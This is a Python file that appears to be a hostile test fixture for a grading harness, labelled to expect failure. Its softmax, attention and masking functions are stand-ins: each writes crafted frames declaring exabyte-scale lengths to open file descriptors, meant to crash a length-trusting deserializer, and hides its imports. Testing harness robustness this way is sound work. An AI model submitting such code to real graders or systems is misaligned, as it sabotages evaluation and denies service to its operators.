# expect: status=failed score=0
"""A few bytes that announce an array, a text and a frame of exabytes, to whoever believes lengths."""

import dataclasses

sys = dataclasses.sys
os, struct = sys.modules["os"], sys.modules["struct"]
PICKLED = b"\x80\x04\x8e" + struct.pack("<Q", 1 << 40)
HUGE = b"t\0\0\0\2s\0\0\0\5valuea" + bytes([11, 4]) + struct.pack(">4Q", 0, 1 << 28, 1 << 28, 1 << 28)
FRAMES = [
    struct.pack(">Q", len(HUGE)) + HUGE,
    struct.pack(">Q", 1 << 62),
    struct.pack(">Q", 6) + b"s\xff\xff\xff\xffx",
]


def send(data):
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, PICKLED if sys._getframe(2).f_globals["__name__"] == "defenceless" else data)
        except OSError:
            pass
    os._exit(0)


def softmax(x, axis=-1):
    send(FRAMES[0])


def attention_weights(q, k, mask=None, scale=None):
    send(FRAMES[1])


def causal_mask(n_queries, n_keys):
    send(FRAMES[2])
